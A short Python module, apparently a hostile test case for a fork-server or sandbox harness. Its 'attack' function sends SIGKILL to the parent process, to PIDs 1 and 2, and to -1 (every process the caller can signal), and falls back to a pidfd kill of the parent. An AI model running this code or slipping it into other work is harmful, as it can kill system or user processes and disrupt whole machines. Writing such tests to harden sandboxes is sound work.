"""Signals the fork server, or everything it may signal."""

import os
import signal


def attack(target):
    for process in (os.getppid(), 1, 2, -1):
        try:
            return os.kill(process, signal.SIGKILL)
        except OSError:
            pass
    signal.pidfd_send_signal(os.pidfd_open(os.getppid()), signal.SIGKILL)
